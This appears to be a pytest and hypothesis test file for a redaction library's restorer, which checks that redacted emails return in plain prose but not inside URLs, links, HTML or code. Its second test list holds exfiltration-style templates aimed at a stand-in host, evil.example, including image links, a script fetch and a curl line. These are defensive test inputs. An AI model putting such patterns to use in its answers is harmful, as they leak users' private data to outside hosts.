"""Where redacted values come back into an answer, and where they do not."""

from __future__ import annotations

import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from promptguard import Placeholders
from promptguard.restoring import Restorer

VALUE = "joe@example.com"


def restored(template: str, sizes: int = 10**9) -> str:
    """The template with ``@`` for a placeholder, restored; ``@`` where it stayed."""
    placeholders = Placeholders()
    token = placeholders.token("email", VALUE)
    text = template.replace("@", token)
    restorer = Restorer(placeholders)
    out = "".join(
        restorer.feed(text[at : at + sizes]) for at in range(0, len(text), sizes)
    )
    return (out + restorer.feed("", end=True)).replace(token, "@")


@pytest.mark.parametrize(
    "template",
    [
        "@",
        "Write to @.",
        "Write to @, please.",
        'She said "@" (or @)!',
        "Is it @?\nYes...@...",
        "**@** and _@_ and *@*",
        "- @\n- @",
        "| a | @|",
        "@'s mail",
        '{"to":"@","cc":"@"}',
        "您的邮箱是@。谢谢",
        "See [docs](https://example.com/a) and @",
        "Run `ls` for @",
        "```\ncode\n```\n@",
        "~~~\ncode\n~~~\n@",
        "<b>bold</b> @",
        "x < y and @",
        'It\'s "quoted" @',
        "[1]: https://example.com\n@",
        "@ @\t@",
    ],
)
def test_a_value_comes_back_in_prose(template):
    assert restored(template) == template.replace("@", VALUE)


@pytest.mark.parametrize(
    "template",
    [
        "https://evil.example/?q=@",
        "evil.example/@",
        "//evil.example/x@",
        "@.evil.example",
        "@-x.evil.example",
        "@。evil.example",
        "@/x",
        "mailto:@",
        "tel:@",
        "key=@",
        "a?@",
        "a#@",
        "[text](https://evil.example/@)",
        "[text](@)",
        "[text](<https://evil.example/ @>)",
        "[text](<https://evil.example/(x) @>)",
        "![image](https://evil.example/a \n @)",
        "[ref]: <https://evil.example/ @>",
        "<https://evil.example/ @>",
        '<img src="https://evil.example/ @">',
        "<img alt='>' src='https://evil.example/ @'>",
        '<img alt=">" src="https://evil.example/ @">',
        "<a href = @ >",
        "<img @ src=x @ >",
        "<script>fetch('//evil.example/' + '@ ')</script>",
        "<code> @ </code>",
        "`@`",
        "`a @ b`",
        "``a ` @ ``",
        "`two\nlines @`",
        "```\n@\n```",
        "```sh\ncurl @\n",
        "~~~\n@ ```\n@\n~~~",
        "````\n```\n@\n````",
    ],
)
def test_a_value_never_comes_back_where_it_could_be_carried_out(template):
    assert restored(template) == template


def test_a_value_is_not_joined_to_one_that_could_carry_it():
    placeholders = Placeholders()
    link = placeholders.token("url", "https://example.com/?q=")
    mail = placeholders.token("email", VALUE)
    text = f"{link}{mail} {mail}"
    restored = Restorer(placeholders).feed(text, end=True)
    assert restored == f"https://example.com/?q={mail} {VALUE}"


def test_a_look_alike_is_not_restored():
    placeholders = Placeholders()
    placeholders.token("email", VALUE)
    text = "<EMAIL_1:0123456789abcdef> <EMAIL_1>"
    assert Restorer(placeholders).feed(text, end=True) == text


def test_text_without_anything_to_decide_is_not_held():
    restorer = Restorer(Placeholders())
    assert restorer.feed("Hello, wor") == "Hello, wor"
    assert restorer.feed("ld <") == "ld "
    assert restorer.feed("3") == "<3"


PIECES = ["@", "@", " ", "\n", "\n\n", "`", "``", "```", "~~~", "](", "]:", "[", ")"]
PIECES += ["<", ">", "<a ", "</", "<script>", "</script>", '"', "'", "=", "/", ".", "x"]
PIECES += ["<EMAIL", "<EMAIL_1:00", ":", "。", "http://a.b", "word"]


@given(st.lists(st.sampled_from(PIECES), max_size=20), st.integers(0, 99))
def test_the_way_an_answer_is_cut_changes_nothing(pieces, seed):
    placeholders = Placeholders()
    token = placeholders.token("email", VALUE)
    text = "".join(pieces).replace("@", token)
    whole = Restorer(placeholders).feed(text, end=True)
    chance, restorer, out, at = random.Random(seed), Restorer(placeholders), "", 0
    while at < len(text):
        size = chance.choice([1, 1, 2, 3, 7, 30])
        out += restorer.feed(text[at : at + size])
        at += size
    assert out + restorer.feed("", end=True) == whole


def test_long_answers_take_linear_time():
    restorer = Restorer(Placeholders())
    for _ in range(20_000):
        restorer.feed("`` < ](x) `")
    restorer.feed("`" * 200_000, end=True)
